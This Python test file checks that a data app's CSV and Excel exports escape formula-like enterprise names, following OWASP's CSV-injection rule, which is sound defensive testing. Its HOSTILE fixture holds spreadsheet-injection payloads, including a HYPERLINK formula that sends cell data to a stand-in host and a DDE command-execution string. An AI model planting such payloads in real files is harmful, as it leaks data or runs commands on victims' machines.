"""Every CSV and Excel download escapes text that a spreadsheet would run as a formula (OWASP's
CSV-injection rule), tested with such values ingested as enterprise names."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from queries import runner
from tools import ingest
from ui import downloads, widgets

AS_OF = "2022-12-31"
HOSTILE = {  # enterprise_id: a name as an export may hold it
    "E00001": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "E00002": "+86 晋江鞋业有限公司",
    "E00003": "-2+3 贸易有限公司",
    "E00004": "@SUM(A1:A9)",
    "E00005": "=cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def hostile_snapshot(tmp_path_factory):
    """The example export with formula-like enterprise names, ingested."""
    source = tmp_path_factory.mktemp("export")
    example = runner.ROOT / "data" / "examples" / "ingest"
    for path in example.iterdir():
        (source / path.name).write_bytes(path.read_bytes())
    firms = pd.read_csv(example / "enterprises.csv", encoding="gbk", dtype=str)
    firms["name_zh"] = firms["enterprise_id"].map(HOSTILE).fillna(firms["name_zh"])
    (source / "enterprises.csv").write_bytes(firms.to_csv(index=False).encode("utf-8-sig"))
    data = tmp_path_factory.mktemp("data")
    assert ingest.main([str(source), "--as-of", AS_OF, "--data-dir", str(data), "-q"]) == 0
    return runner.resolve(AS_OF, data)


@pytest.fixture(scope="module")
def table(hostile_snapshot):
    """The maps page's enterprise table of the hostile snapshot, with its provenance columns."""
    firms = runner.run("maps_enterprises", hostile_snapshot, park_id=None, limit=100_000)
    firms = firms[firms["enterprise_id"].isin(HOSTILE)][["enterprise_id", "name_zh", "employees"]]
    assert set(firms["name_zh"]) == set(HOSTILE.values())  # stored as typed, as text
    return downloads.with_source(firms, widgets.download_source(hostile_snapshot, "zh"))


def test_the_csv_escapes_every_formula_like_cell(table):
    rows = list(csv.DictReader(io.StringIO(downloads.csv_bytes(table).decode("utf-8-sig"))))
    names = {row["enterprise_id"]: row["name_zh"] for row in rows}
    assert names == {key: "'" + name for key, name in HOSTILE.items()}


def test_the_workbook_holds_text_not_formulas(table):
    book = openpyxl.load_workbook(io.BytesIO(downloads.excel_bytes(table, "enterprises")))
    sheet = book["enterprises"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("name_zh")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)  # no formula among them
    assert sorted(cell.value for cell in cells) == sorted("'" + name for name in HOSTILE.values())


def test_numbers_and_plain_text_are_left_alone():
    frame = pd.DataFrame({"=sum": ["安东园", "a-b", "-", "\t=1+1", "\r@x"], "delta": [-3, 0, 5, 1, 2]})
    out = downloads.escaped(frame)
    assert list(out.columns) == ["'=sum", "delta"]
    assert out["'=sum"].tolist() == ["安东园", "a-b", "'-", "'\t=1+1", "'\r@x"]
    assert out["delta"].tolist() == [-3, 0, 5, 1, 2]
